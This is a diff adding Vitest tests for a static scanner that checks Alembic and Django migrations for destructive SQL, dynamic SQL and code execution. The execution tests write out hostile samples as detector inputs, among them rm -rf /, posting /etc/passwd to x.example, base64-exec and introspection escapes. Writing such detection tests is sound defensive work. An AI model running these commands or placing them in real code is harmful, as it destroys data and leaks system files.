@@ -1,0 +1,361 @@
+// Python migrations: parsing (never running), SQL recovered from strings with exact positions,
+// dynamic SQL, execution primitives (with the usual evasions), Django operations.
+import { describe, expect, it } from 'vitest';
+import { extract } from '../src/extract/index.js';
+import type { PythonFacts } from '../src/python/facts.js';
+import { decodeLiterals } from '../src/python/source.js';
+import { neutralizeBinds } from '../src/python/analyzer.js';
+import type { Finding } from '../src/types.js';
+import { check } from './helpers.js';
+
+const ALEMBIC = 'migrations/versions/1a2b3c4d_x.py';
+const HEAD = "from alembic import op\nimport sqlalchemy as sa\n\nrevision = '1a2b3c4d'\ndown_revision = '0a0b0c0d'\n";
+const mig = (body: string) => `${HEAD}\n\ndef upgrade():\n${body}\n\ndef downgrade():\n    op.drop_table("zz")\n`;
+
+async function run(src: string, path = ALEMBIC) {
+  return (await check(src, { path })).findings;
+}
+const ids = (fs: Finding[]) => [...new Set(fs.map((f) => f.ruleId))].sort();
+const of = (fs: Finding[], id: string) => fs.filter((f) => f.ruleId === id);
+const facts = (src: string, path = ALEMBIC) => extract({ path, content: src }).facts.python as PythonFacts;
+const units = (src: string, path = ALEMBIC) => extract({ path, content: src }).units;
+/** 1-based line of the first line containing `needle`. */
+const lineOf = (src: string, needle: string) => src.split('\n').findIndex((l) => l.includes(needle)) + 1;
+
+describe('parsing', () => {
+  it('a Python syntax error is a gating parse finding at its line', async () => {
+    const src = HEAD + '\ndef upgrade(:\n    op.drop_table("x")\n';
+    const fs = await run(src);
+    expect(ids(fs)).toEqual(['parse-error']);
+    expect(fs[0].gating).toBe(true);
+    expect(fs[0].line).toBe(lineOf(src, 'def upgrade('));
+    expect(fs[0].message).toMatch(/Python syntax error/);
+  });
+
+  it('an indentation error is a syntax error too', async () => {
+    const fs = await run(HEAD + 'def upgrade():\nop.drop_table("x")\n');
+    expect(ids(fs)).toContain('parse-error');
+  });
+
+  it('a byte-order mark does not break parsing', async () => {
+    const bytes = new Uint8Array([0xef, 0xbb, 0xbf, ...new TextEncoder().encode(mig('    op.drop_table("users")'))]);
+    const r = await check(bytes, { path: ALEMBIC });
+    expect(ids(r.findings)).toContain('drop-table');
+    expect(ids(r.findings)).not.toContain('parse-error');
+  });
+
+  it('a file nested too deeply to parse fails closed', async () => {
+    const fs = await run(`${HEAD}x = ${'('.repeat(5000)}1${')'.repeat(5000)}\n`);
+    expect(ids(fs)).toEqual(['parse-error']);
+    expect(fs[0].gating).toBe(true);
+  });
+
+  it('the code is never executed', async () => {
+    const src = "import os\nos.environ['MG_TEST_RAN'] = '1'\nraise SystemExit(3)\n";
+    await run(src, 'migrations/versions/x.py');
+    expect(process.env.MG_TEST_RAN).toBeUndefined();
+  });
+});
+
+describe('string literals', () => {
+  it('decodes escapes, raw strings, triple quotes and implicit concatenation with positions', () => {
+    const text = 'x = ("a\\tb" r"\\d" \'\'\'q\nr\'\'\' "\\x41\\u0042\\101")';
+    const start = text.indexOf('(') + 1;
+    const d = decodeLiterals(text, start, text.length - 1)!;
+    expect(d.text).toBe('a\tb\\dq\nrABA');
+    expect(d.src.length).toBe(d.text.length);
+    expect(text[d.src[d.text.indexOf('q')]]).toBe('q');
+    expect(text.slice(d.src[d.text.indexOf('A')], d.src[d.text.indexOf('A')] + 4)).toBe('\\x41');
+  });
+
+  it('bind parameters are replaced by same-length placeholders', () => {
+    const sql = "UPDATE t SET a = :tags, b = '10:30', c = x::int WHERE id = %(id)s AND z = %s AND q := 1";
+    const out = neutralizeBinds(sql, true);
+    expect(out.length).toBe(sql.length);
+    expect(out).toContain('$1   ,');
+    expect(out).toContain("'10:30'");
+    expect(out).toContain('x::int');
+    expect(out).toContain(':=');
+    expect(out).not.toMatch(/%\(id\)s|%s/);
+  });
+});
+
+describe('SQL passed to execute', () => {
+  it('op.execute("UPDATE … WHERE …") is parsed, not dynamic', async () => {
+    const fs = await run(mig('    op.execute("UPDATE search_filter SET expression = \'[]\' WHERE expression is null")'));
+    expect(ids(fs)).toEqual(['drop-table']); // only the downgrade's drop_table
+    expect(fs[0].down).toBe(true);
+  });
+
+  it('maps statements inside a triple-quoted string to their exact file line and column', async () => {
+    const src = mig('    op.execute("""\n        UPDATE t SET a = 1 WHERE b = 2;\n        DELETE FROM audit_log;\n    """)');
+    const f = of(await run(src), 'delete-without-where');
+    expect(f).toHaveLength(1);
+    expect(f[0].line).toBe(lineOf(src, 'DELETE FROM audit_log'));
+    expect(f[0].column).toBe(9);
+    expect(f[0].snippet).toContain('DELETE FROM audit_log');
+    expect(f[0].gating).toBe(true);
+  });
+
+  it.each([
+    ['implicit concatenation', '    op.execute("DROP " "TABLE users")'],
+    ['+ of literals', '    op.execute("DROP TABLE" + " users")'],
+    ['module-level constant', '    op.execute(SQL)'],
+    ['local variable', '    q = "DROP TABLE users"\n    op.execute(q)'],
+    ['escapes', '    op.execute("\\x44ROP \\u0054ABLE users")'],
+    ['raw string', '    op.execute(r"DROP TABLE users")'],
+    ['f-string of constants', '    op.execute(f"DROP TABLE {TABLE}")'],
+    ['sa.text', '    op.execute(sa.text("DROP TABLE users"))'],
+    ['aliased text()', '    op.execute(sql_text("DROP TABLE users").bindparams(a=1))'],
+    ['textwrap.dedent', '    op.execute(textwrap.dedent("""\n        DROP TABLE users\n    """))'],
+    ['"".join', '    op.execute(" ".join(["DROP", "TABLE", "users"]))'],
+    ['op.get_bind().execute', '    op.get_bind().execute("DROP TABLE users")'],
+    ['bound connection', '    conn = op.get_bind()\n    conn.execute(sa.text("DROP TABLE users"))'],
+    ['get_context().connection', '    c = op.get_context().connection\n    c.exec_driver_sql("DROP TABLE users")'],
+    ['batch_op.execute', '    with op.batch_alter_table("t") as b:\n        b.execute("DROP TABLE users")'],
+    ['an alias of op.execute', '    run = op.execute\n    run("DROP TABLE users")'],
+    ['getattr(op, "execute")', '    getattr(op, "execute")("DROP TABLE users")'],
+    ['an alias of conn.execute', '    ex = op.get_bind().execute\n    ex("DROP TABLE users")'],
+    ['getattr(op, "drop_table")', '    getattr(op, "drop_" + "table")("users")'],
+  ])('recovers SQL built by %s', async (_name, body) => {
+    const src = `${HEAD}import textwrap\nfrom sqlalchemy import text as sql_text\nSQL = "DROP TABLE users"\nTABLE = "users"\n\ndef upgrade():\n${body}\n`;
+    const fs = await run(src);
+    expect(ids(fs)).not.toContain('python-dynamic-sql');
+    const drops = of(fs, 'drop-table');
+    expect(drops.length).toBeGreaterThanOrEqual(1);
+    expect(drops[0].message).toMatch(/users/);
+    expect(drops[0].gating).toBe(true);
+  });
+
+  it('SQLAlchemy :name and DB-API %(name)s parameters do not cause parse errors', async () => {
+    const fs = await run(
+      mig('    conn = op.get_bind()\n    conn.execute(sa.text("UPDATE d SET tags = :tags WHERE id = :id"), {"tags": 1, "id": 2})\n    conn.exec_driver_sql("UPDATE d SET a = %(a)s WHERE id = %s", {"a": 1})'),
+    );
+    expect(ids(fs)).toEqual(['drop-table']);
+  });
+
+  it.each([
+    ['an f-string with a run-time value', '    for t in tables:\n        op.execute(f"DROP TABLE {t}")', /f-string/],
+    ['%-formatting', '    op.execute("DROP TABLE %s" % name)', /%-formatting/],
+    ['.format()', '    op.execute("DROP TABLE {}".format(name))', /\.format/],
+    ['a loop variable', '    for q in ["DROP TABLE a"]:\n        op.execute(q)', /loop variable|parameter/],
+    ['a function parameter', '    run("x")\n\ndef run(sql):\n    op.execute(sql)', /parameter/],
+    ['an imported value', '    op.execute(sql_expressions)', /imported from lib/],
+    ['concatenation with a run-time value', '    op.execute("DROP TABLE " + name)', /name/],
+    ['a call result', '    op.execute(build_sql())', /build_sql/],
+    ['a file read at run time', '    op.execute(open("x.sql").read())', /open/],
+  ])('flags SQL built from %s as dynamic', async (_n, body, why) => {
+    const src = `${HEAD}from lib import sql_expressions\n\ndef upgrade():\n${body}\n`;
+    const d = of(await run(src), 'python-dynamic-sql');
+    expect(d).toHaveLength(1);
+    expect(d[0].gating).toBe(true);
+    expect(d[0].category).toBe('dynamic');
+    expect(d[0].message).toMatch(why);
+  });
+
+  it('an Alembic operation chosen at run time is dynamic', async () => {
+    const d = of(await run(mig('    for name in OPS:\n        getattr(op, name)("users")')), 'python-dynamic-sql');
+    expect(d).toHaveLength(1);
+  });
+
+  it('dynamic SQL in downgrade() is reported non-gating', async () => {
+    const src = `${HEAD}\ndef upgrade():\n    pass\n\ndef downgrade():\n    op.execute(f"DROP TABLE {x}")\n`;
+    const d = of(await run(src), 'python-dynamic-sql');
+    expect(d).toHaveLength(1);
+    expect(d[0].down).toBe(true);
+    expect(d[0].gating).toBe(false);
+  });
+
+  it('a name assigned two different SQL strings: both are checked', async () => {
+    const src = mig('    q = "UPDATE t SET a = 1 WHERE b = 1"\n    if x:\n        q = "DROP TABLE users"\n    op.execute(q)');
+    const fs = await run(src);
+    expect(of(fs, 'drop-table').some((f) => /users/.test(f.message))).toBe(true);
+    expect(ids(fs)).not.toContain('python-dynamic-sql');
+  });
+
+  it('SQL inside `if dialect == "mysql"` is parsed as MySQL', async () => {
+    const src = mig('    bind = op.get_bind()\n    if bind.dialect.name == "mysql":\n        op.execute("ALTER TABLE `t` MODIFY `c` DATETIME(6)")');
+    const fs = await run(src);
+    expect(ids(fs)).not.toContain('parse-error');
+  });
+});
+
+describe('execution', () => {
+  const py = (body: string) => `${HEAD}${body}\n\ndef upgrade():\n    pass\n\ndef downgrade():\n    pass\n`;
+  it.each([
+    ['os.system', 'import os\nos.system("rm -rf /")'],
+    ['from os import system as s', 'from os import system as s\ndef f():\n    s("id")'],
+    ['subprocess imported inside a function', 'def f():\n    import subprocess as sp\n    sp.check_output(["id"])'],
+    ['exec(base64.b64decode(…))', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'],
+    ['eval', 'eval(input())'],
+    ['compile', 'c = compile("1", "x", "exec")'],
+    ['__import__', '__import__("os").system("id")'],
+    ['importlib', 'import importlib\nm = importlib.import_module("os")'],
+    ['getattr on a module with a computed name', 'import os\ngetattr(os, "sys" + "tem")("id")'],
+    ['getattr with a literal name', 'import os\ngetattr(os, "system")("id")'],
+    ['an alias variable', 'import os\nrun = os.popen\nrun("id")'],
+    ['requests', 'import requests\nrequests.post("https://x.example", data=open("/etc/passwd").read())'],
+    ['urllib', 'from urllib.request import urlopen\nurlopen("https://x.example")'],
+    ['http.client', 'import http.client\nhttp.client.HTTPSConnection("x.example")'],
+    ['socket', 'import socket\nsocket.create_connection(("x", 1))'],
+    ['writing a file', 'with open("/tmp/x", "w") as f:\n    f.write("x")'],
+    ['pathlib write', 'from pathlib import Path\nPath("/tmp/x").write_text("x")'],
+    ['shutil.rmtree', 'import shutil\nshutil.rmtree("/srv")'],
+    ['pickle.loads', 'import pickle\npickle.loads(b"x")'],
+    ['marshal.loads', 'import marshal\nmarshal.loads(b"x")'],
+    ['yaml.load without SafeLoader', 'import yaml\nyaml.load("a: 1")'],
+    ['star import of subprocess', 'from subprocess import *\nrun(["id"])'],
+    ['an unused import of subprocess', 'import subprocess'],
+    ['globals() lookup', 'globals()["__builtins__"]'],
+    ['introspection escape', 'x = ().__class__.__base__.__subclasses__()'],
+    ['asyncio subprocess', 'import asyncio\nasyncio.create_subprocess_shell("id")'],
+    ['__builtins__.exec', '__builtins__.exec("print(1)")'],
+    ['__builtins__["eval"]', '__builtins__["eval"]("1")'],
+    ['sys.modules lookup', 'import sys\nsys.modules["os"].system("id")'],
+    ['module __dict__ lookup', 'import os\nos.__dict__["system"]("id")'],
+  ])('flags %s', async (_n, body) => {
+    const fs = of(await run(py(body)), 'python-execution');
+    expect(fs.length).toBeGreaterThanOrEqual(1);
+    expect(fs.some((f) => f.gating)).toBe(true);
+    expect(fs[0].category).toBe('execution');
+  });
+
+  it('reports the line of the call and resolves the alias in the message', async () => {
+    const src = py('from os import system as s\n\ndef helper():\n    s("id")');
+    const fs = of(await run(src), 'python-execution');
+    expect(fs).toHaveLength(1);
+    expect(fs[0].line).toBe(lineOf(src, 's("id")'));
+    expect(fs[0].message).toMatch(/os\.system/);
+  });
+
+  it('flags execution in downgrade() as gating too', async () => {
+    const src = `${HEAD}\ndef upgrade():\n    pass\n\ndef downgrade():\n    import os\n    os.system("id")\n`;
+    const fs = of(await run(src), 'python-execution');
+    expect(fs).toHaveLength(1);
+    expect(fs[0].gating).toBe(true);
+  });
+
+  it('a base64 decode of data (not a literal) is a warning', async () => {
+    const fs = of(await run(py('import base64\ndef f(row):\n    return base64.b64decode(row.value)')), 'python-execution');
+    expect(fs).toHaveLength(1);
+    expect(fs[0].severity).toBe('warning');
+  });
+
+  it.each([
+    ['os.environ and os.path', 'import os\nurl = os.environ.get("DATABASE_URL")\np = os.path.join("a", "b")'],
+    ['reading a file', 'with open("schema.sql") as f:\n    data = f.read()\nopen("x", "rb").read()'],
+    ['json, re, datetime', 'import json, re, datetime\njson.loads("{}")\nre.compile("x")\ndatetime.datetime.now()'],
+    ['sqlalchemy select/update', 'from sqlalchemy import select, update\ns = select()'],
+    ['urllib.parse', 'from urllib.parse import quote\nquote("x")'],
+    ['yaml.safe_load and SafeLoader', 'import yaml\nyaml.safe_load("a: 1")\nyaml.load("a: 1", Loader=yaml.SafeLoader)'],
+    ['a local function named like a builtin', 'def compile_rules(x):\n    return x\ncompile_rules(1)'],
+    ['an undefined bare name', 'select(1)'],
+  ])('does not flag %s', async (_n, body) => {
+    expect(of(await run(py(body)), 'python-execution')).toEqual([]);
+  });
+
+  it('env.py reading config is clean; env.py running a process is flagged', async () => {
+    const env = `import os\nfrom logging.config import fileConfig\nfrom alembic import context\nfrom sqlalchemy import engine_from_config, pool\nconfig = context.config\nfileConfig(config.config_file_name)\nconfig.set_main_option("sqlalchemy.url", os.environ["DATABASE_URL"])\n\ndef run_migrations_online():\n    connectable = engine_from_config(config.get_section(config.config_ini_section), prefix="sqlalchemy.", poolclass=pool.NullPool)\n    with connectable.connect() as connection:\n        context.configure(connection=connection)\n        with context.begin_transaction():\n            context.run_migrations()\n\nrun_migrations_online()\n`;
+    const r = await check(env, { path: 'migrations/env.py' });
+    expect(r.files[0].kind).toBe('python');
+    expect(r.findings).toEqual([]);
+    const bad = await check(env + 'import subprocess\nsubprocess.run(["sh", "-c", "id"])\n', { path: 'migrations/env.py' });
+    expect(ids(bad.findings)).toEqual(['python-execution']);
+  });
+});
+
+describe('Django', () => {
+  const PATH = 'blog/migrations/0007_change.py';
+  const dj = (ops: string, pre = '') => `from django.db import migrations, models\n${pre}\n\nclass Migration(migrations.Migration):\n    dependencies = [("blog", "0006_x")]\n    operations = [\n${ops}\n    ]\n`;
+
+  it('is classified as django and parsed', () => {
+    const ex = extract({ path: PATH, content: dj('        migrations.DeleteModel(name="Post"),') });
+    expect(ex.kind).toBe('django');
+    expect(ex.units.map((u) => u.text)).toEqual(['DROP TABLE "blog_post"']);
+  });
+
+  it.each([
+    ['DeleteModel', '        migrations.DeleteModel(name="Post"),', 'drop-table', /blog_post/],
+    ['RemoveField', '        migrations.RemoveField(model_name="post", name="body"),', 'drop-column', /body/],
+    ['RenameModel', '        migrations.RenameModel(old_name="Post", new_name="Article"),', 'rename-table', /blog_post/],
+    ['RenameField', '        migrations.RenameField(model_name="post", old_name="body", new_name="text"),', 'rename-column', /body/],
+    ['RunSQL', '        migrations.RunSQL("DROP TABLE legacy;", reverse_sql="CREATE TABLE legacy (id int);"),', 'drop-table', /legacy/],
+    ['RunSQL list with params', '        migrations.RunSQL([("DELETE FROM blog_post WHERE id = %s", [1]), "TRUNCATE blog_tag"]),', 'truncate', /blog_tag/],
+  ])('%s maps to the SQL rule', async (_n, op, rule, msg) => {
+    const fs = await run(dj(op), PATH);
+    const f = of(fs, rule).filter((x) => !x.down);
+    expect(f.length).toBeGreaterThanOrEqual(1);
+    expect(f[0].message).toMatch(msg);
+    expect(f[0].gating).toBe(true);
+  });
+
+  it('RunSQL reverse_sql is a down migration (non-gating)', async () => {
+    const fs = await run(dj('        migrations.RunSQL("CREATE TABLE t (id int);", reverse_sql="DROP TABLE t;"),'), PATH);
+    const d = of(fs, 'drop-table');
+    expect(d).toHaveLength(1);
+    expect(d[0].down).toBe(true);
+    expect(d[0].gating).toBe(false);
+  });
+
+  it('AlterField is a non-gating possible type change', async () => {
+    const fs = await run(dj('        migrations.AlterField(model_name="post", name="title", field=models.CharField(max_length=300)),'), PATH);
+    const f = of(fs, 'alter-column-type');
+    expect(f).toHaveLength(1);
+    expect(f[0].severity).toBe('warning');
+    expect(f[0].gating).toBe(false);
+    expect(f[0].message).toMatch(/blog_post\.title/);
+  });
+
+  it('RunPython is a warning; noop is not reported; its code is scanned', async () => {
+    const pre = 'import os\n\ndef fwd(apps, schema_editor):\n    Post = apps.get_model("blog", "Post")\n    Post.objects.all().delete()\n\ndef back(apps, schema_editor):\n    os.system("id")\n';
+    const fs = await run(dj('        migrations.RunPython(fwd, back),\n        migrations.RunPython(migrations.RunPython.noop),', pre), PATH);
+    const rp = of(fs, 'django-run-python');
+    expect(rp.map((f) => [f.severity, !!f.down])).toEqual([
+      ['warning', false],
+      ['warning', true],
+    ]);
+    expect(rp.every((f) => !f.gating)).toBe(true);
+    const del = of(fs, 'delete-without-where');
+    expect(del).toHaveLength(1);
+    expect(del[0].message).toMatch(/blog_post/);
+    expect(del[0].down).toBeFalsy();
+    // code execution gates even in reverse code
+    expect(of(fs, 'python-execution')[0].gating).toBe(true);
+  });
+
+  it('SeparateDatabaseAndState: state_operations run no SQL', async () => {
+    const fs = await run(dj('        migrations.SeparateDatabaseAndState(state_operations=[migrations.DeleteModel(name="Post")], database_operations=[]),'), PATH);
+    expect(fs).toEqual([]);
+  });
+
+  it('a RunSQL string built at run time is dynamic', async () => {
+    const fs = await run(dj('        migrations.RunSQL("DROP TABLE %s" % TABLE),', 'TABLE = input()'), PATH);
+    expect(ids(fs)).toEqual(['python-dynamic-sql']);
+  });
+
+  it('scoped ORM writes are not flagged', async () => {
+    const pre = 'def fwd(apps, se):\n    apps.get_model("blog", "Post").objects.filter(draft=True).delete()\n';
+    const fs = await run(dj('        migrations.RunPython(fwd),', pre), PATH);
+    expect(ids(fs)).toEqual(['django-run-python']);
+  });
+});
+
+describe('facts and counts', () => {
+  it('counts op calls, recovered SQL and dynamic SQL', () => {
+    const f = facts(mig('    op.drop_column("t", "c")\n    op.execute("UPDATE t SET a = 1 WHERE b = 1")\n    op.execute(f"x {y}")'));
+    expect(f.framework).toBe('alembic');
+    expect(f.stats.ops).toMatchObject({ drop_column: 1, execute: 2, drop_table: 1 });
+    expect(f.stats.sqlStrings).toBe(1);
+    expect(f.stats.dynamic).toBe(1);
+    expect(f.stats.upUnits).toBe(2);
+    expect(f.stats.downUnits).toBe(1);
+  });
+
+  it('unit positions map into the Python file', () => {
+    const src = mig('    op.execute(\n        "UPDATE t "\n        "SET a = 1 WHERE b = 1"\n    )');
+    const u = units(src).find((x) => x.text.startsWith('UPDATE'))!;
+    expect(u.pos(0).line).toBe(lineOf(src, '"UPDATE t "'));
+    expect(u.pos(u.text.indexOf('SET')).line).toBe(lineOf(src, '"SET a = 1'));
+    expect(u.pos(u.text.indexOf('SET')).column).toBe(10);
+  });
+});
